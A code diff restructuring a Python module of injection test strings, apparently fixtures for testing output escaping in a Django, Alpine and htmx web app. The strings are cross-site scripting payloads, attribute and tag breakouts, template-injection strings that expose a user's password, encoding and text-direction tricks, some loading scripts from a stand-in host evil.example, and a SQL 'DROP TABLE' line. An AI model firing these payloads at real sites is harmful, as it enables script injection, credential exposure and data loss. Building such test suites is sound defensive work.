@@ -8,8 +8,8 @@ from __future__ import annotations
 
 TAG = "injected"  # precedes each string in transcripts, so that a search finds it
 
-STRINGS: tuple[str, ...] = (
-    # Elements that execute code
+# Elements that execute code
+ELEMENTS = (
     "<script>pwned=1;alert(1)</script>",
     "<ScRiPt src=//evil.example/pwned.js></sCrIpT>",
     "</script><script>alert(`pwned`)</script>",
@@ -30,7 +30,9 @@ STRINGS: tuple[str, ...] = (
     "<link id=pwned rel=stylesheet href=//evil.example/a.css>",
     "<style id=pwned>*{background:url(//evil.example)}</style>",
     "<template id=pwned><b>x</b></template><marquee onstart=alert(1)>",
-    # Breaking out of an attribute, a script, a comment, a text area
+)
+# Breaking out of an attribute, a script, a comment, a text area
+BREAKOUTS = (
     '" onmouseover="alert(1)" id="pwned',
     "' onfocus='alert(1)' autofocus id='pwned",
     '"><img src=x id=pwned onerror=alert(1)>',
@@ -42,15 +44,20 @@ STRINGS: tuple[str, ...] = (
     "</time></span></td><td id=pwned>",
     "javascript:alert(document.domain)//pwned",
     "data:text/html,<script>alert(1)</script>",
-    # Template syntax: Django's, Alpine's, htmx's
+)
+# Template syntax: Django's, Alpine's, htmx's
+TEMPLATES = (
     "{{ 7|add:7 }}{% debug %}{{ request.user.password }}",
     "${alert(1)}#{alert(1)}{{constructor.constructor('alert(1)')()}}",
     "<div id=pwned x-data x-init='alert(1)'></div>",
     "<div id=pwned hx-get=/admin/ hx-trigger=load></div>",
-    # Entities, encodings, text direction
+)
+# Entities, encodings, text direction
+ENCODINGS = (
     "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b id=pwned&#62;",
     "%3Cscript%3Ealert(1)%3C%2Fscript%3E \\u003cimg id=pwned\\u003e",
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e <\u0130mg id=pwned>",
     "\u202e<script>alert(1)</script>\u202c \u2066pwned\u2069",
     "null undefined NaN '; DROP TABLE calls_call; -- \u200b\ufeff",
 )
+STRINGS: tuple[str, ...] = ELEMENTS + BREAKOUTS + TEMPLATES + ENCODINGS
